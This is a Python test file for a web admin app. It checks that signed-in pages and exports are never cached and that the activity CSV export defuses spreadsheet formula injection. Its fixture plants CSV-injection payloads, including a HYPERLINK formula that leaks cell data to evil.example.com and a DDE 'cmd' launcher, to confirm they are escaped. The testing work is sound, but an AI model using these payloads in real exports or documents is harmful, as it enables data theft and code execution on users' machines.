"""What a signed-in page holds stays out of caches (Cache-Control: no-store), and the activity
CSV cannot run anything in a spreadsheet, whatever separator the spreadsheet splits it on."""

from __future__ import annotations

import csv
import io
import re

import pytest

from orgs.models import AuditEvent
from tests.seeds import ORG_IDS, USER_IDS
from tests.view_helpers import HX

ACME = ORG_IDS["acme"]


def assert_not_stored(response) -> None:
    directives = {d.strip() for d in response.get("Cache-Control", "").split(",")}
    assert {"no-store", "private"} <= directives, (response.request["PATH_INFO"], directives)


@pytest.mark.parametrize(
    ("path", "headers"),
    [
        ("/organizations/", {}),
        ("/organizations/", HX),
        (f"/organizations/{ACME}/", {}),
        (f"/organizations/{ACME}/", HX),
        (f"/organizations/{ACME}/members/{USER_IDS['ben']}/", {}),
        (f"/organizations/{ACME}/members/{USER_IDS['ben']}/", HX),
        (f"/organizations/{ACME}/members/{USER_IDS['ben']}/remove/", HX),
        (f"/users/{USER_IDS['ana']}/roles/", {}),
        ("/activity/", {}),
        ("/activity/", HX),
        ("/activity/?format=csv", {}),
        (f"/organizations/{ACME}/activity/?format=csv", {}),
        ("/staff/", {}),
        ("/organizations/org_NoSuchOrg00000001/", {}),  # a "not found" page says who asked
    ],
)
def test_signed_in_pages_partials_and_exports_are_never_stored(auth0, client, path, headers):
    response = client.get(path, headers=headers)
    assert response.status_code in (200, 404), response.status_code
    assert_not_stored(response)


def test_an_htmx_write_answer_is_never_stored(auth0, client, no_protected_roles):
    response = client.post(
        f"/organizations/{ACME}/members/{USER_IDS['ben']}/roles/remove/",
        {"role": "rol_BillingAdmin0001"},
        headers=HX,
    )
    assert response.status_code == 204
    assert_not_stored(response)


# --- CSV ---------------------------------------------------------------------------------------

QUOTED_ROWS = re.compile(r'(?:"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*\r\n)+')
PLANTED = {
    "reason": 'TICKET-1;=HYPERLINK("https://evil.example.com/?"&A1,"details")',
    "message": "Refused,+cmd|' /C calc'!A0",
    "org_name": "Acme\t=1+1",
    "error_code": " =2+2",
}


def export(client) -> str:
    return b"".join(client.get("/activity/?format=csv").streaming_content).decode()


@pytest.fixture
def planted(db) -> AuditEvent:
    return AuditEvent.objects.create(
        staff_username="admin",
        action=AuditEvent.Action.MEMBER_ROLES_ASSIGN,
        org_id=ACME,
        outcome=AuditEvent.Outcome.FAILED,
        status=403,
        correlation_id="c0ffee",
        targets=[{"user_id": "auth0|x", "label": "Ben;@SUM(1+1)"}],
        roles=[{"id": "rol_x", "name": "org-owner\n=cmd()"}],
        **PLANTED,
    )


def test_every_field_of_the_csv_is_quoted(planted, client):
    body = export(client)
    assert QUOTED_ROWS.fullmatch(body), body
    assert body.startswith('"started_at","completed_at","staff",')


def test_a_formula_after_any_separator_is_inert(planted, client):
    """A spreadsheet that splits on ";" (or a tab, or a line break) sees a cell start at each
    of them: the text after one never starts with =, +, -, @."""
    body = export(client)
    for separator in (",", ";", "\t", "\n", "\r"):
        for line in re.split(r"\r?\n" if separator in "\r\n" else "\r\n", body):
            for cell in line.split(separator):
                text = cell.lstrip(' "')
                assert text[:1] not in ("=", "+", "-", "@"), (separator, cell)


def test_the_csv_keeps_what_was_recorded_readable(planted, client):
    header, row = list(csv.reader(io.StringIO(export(client))))
    values = dict(zip(header, row, strict=True))
    assert values["reason"] == 'TICKET-1;\'=HYPERLINK("https://evil.example.com/?"&A1,"details")'
    assert values["message"] == "Refused,'+cmd|' /C calc'!A0"
    assert values["organization"] == "Acme\t'=1+1"
    assert values["error_code"] == "' =2+2"
    assert values["targets"] == "Ben;'@SUM(1+1)"
    assert values["roles"] == "org-owner\n'=cmd()"
    assert values["status"] == "403"
    assert values["correlation_id"] == "c0ffee"
